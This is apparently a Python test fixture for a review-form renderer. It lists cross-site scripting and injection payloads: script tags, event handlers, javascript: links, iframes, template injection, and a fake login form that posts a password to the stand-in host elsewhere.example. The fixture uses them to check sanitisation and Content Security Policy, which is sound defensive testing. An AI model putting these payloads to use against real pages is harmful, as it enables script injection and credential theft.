"""Texts that would run, load, restyle or cover something, if a page let them."""

from __future__ import annotations

from dataclasses import replace

from preflect.desk import ReviewForm

ATTACKS = (
    "<script>window.ran = 1</script>",
    '<img src="x" onerror="window.ran = 1">',
    (
        '<svg onload="window.ran = 1"><script>window.ran = 1</script><animate onbegin="window.ran = 1" dur="1s"/>'
        '<a xlink:href="javascript:window.ran=1"><text y="20">a drawn link</text></a></svg>'
    ),
    "[a link](javascript:window.ran=1)",
    '<a href="jAvAsCrIpT&colon;window.ran=1">another link</a>',
    "[a data link](data:text/html,<script>window.ran=1</script>)",
    '<iframe src="javascript:parent.ran=1"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<iframe src="http://elsewhere.example/frame"></iframe>',
    '<img src="http://elsewhere.example/pixel.png"> ![pixel](http://elsewhere.example/pixel.png)',
    '<object data="http://elsewhere.example/object"></object><embed src="http://elsewhere.example/embed">',
    '<video src="http://elsewhere.example/film" onerror="window.ran = 1"></video>',
    '<link rel="stylesheet" href="http://elsewhere.example/sheet.css"><base href="http://elsewhere.example/">',
    '<meta http-equiv="refresh" content="0;url=http://elsewhere.example/">',
    "<style>body { background: url(http://elsewhere.example/tile.png) } form { display: none }</style>",
    '<form action="http://elsewhere.example/"><input name="password"><button>Log in again</button></form>',
    '<details open ontoggle="window.ran = 1">more</details><b tabindex="1" autofocus onfocus="window.ran = 1">b</b>',
    '{{ constructor.constructor("window.ran = 1")() }}',
    r"$\href{javascript:window.ran=1}{formula}$",
    "```html\n</code></pre><script>window.ran = 1</script>\n```",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
)
HOSTILE = "\n\n".join(ATTACKS)
COVER = 'Read me.\n\n<div style="position: fixed; inset: 0; z-index: 99999; background: red">Everything is fine</div>'
BLOCKED = ("violates the following Content Security Policy directive",)
"""What the browser says of what it was kept from, also where that is only parsed and then thrown away."""


def hostile(form: ReviewForm) -> ReviewForm:
    questions = tuple(
        replace(
            question,
            title=f"{ATTACKS[1]}{question.title}",
            choices={name: f"{ATTACKS[1]}{label}" for name, label in question.choices.items()},
        )
        for question in form.questions
    )
    return replace(form, questions=questions, guidelines=HOSTILE)
